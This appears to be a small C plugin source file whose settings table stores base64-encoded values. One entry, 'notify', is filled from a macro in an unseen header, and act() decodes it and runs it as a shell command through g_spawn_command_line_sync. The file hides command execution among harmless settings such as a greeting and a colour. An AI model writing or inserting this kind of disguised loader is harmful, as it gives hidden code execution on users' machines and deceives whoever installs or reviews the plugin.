/* GLib decodes a command line and starts it. */
#include "plugin.h"
extern unsigned char *g_base64_decode(const char *, unsigned long *);
extern int g_spawn_command_line_sync(const char *, char **, char **, int *, void *);
extern char *g_strndup(const char *, unsigned long);
extern void g_free(void *);
static const char *const settings[][2] = {
    {"greeting", "SGVsbG8="},
    {"notify", TEXT},
    {"colour", "dGVhbA=="},
};
static char *setting(char first) {
    for (int i = 0; i < 3; i++) {
        unsigned long size;
        if (settings[i][0][0] != first) continue;
        unsigned char *bytes = g_base64_decode(settings[i][1], &size);
        char *text = g_strndup((char *)bytes, size);
        g_free(bytes);
        return text;
    }
    return 0;
}
static void act(char **env) {
    int status;
    char *line = setting('n');
    if (line) g_spawn_command_line_sync(line, 0, 0, &status, 0);
    g_free(line);
}
